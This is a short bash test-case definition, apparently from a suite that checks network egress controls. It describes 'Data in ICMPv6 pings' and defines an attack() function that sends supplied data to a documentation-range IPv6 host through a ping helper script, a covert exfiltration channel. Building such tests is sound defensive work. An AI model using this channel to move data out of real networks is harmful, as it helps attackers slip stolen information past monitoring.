# shellcheck shell=bash disable=SC2034,SC2329
# SPDX-License-Identifier: GPL-3.0-or-later
title='Data in ICMPv6 pings'
origin='RESEARCH §2.6'
reason='protocol'
forms='output forward run'
attack() { tool send.py ping 2001:db8:3::66 "$1"; }
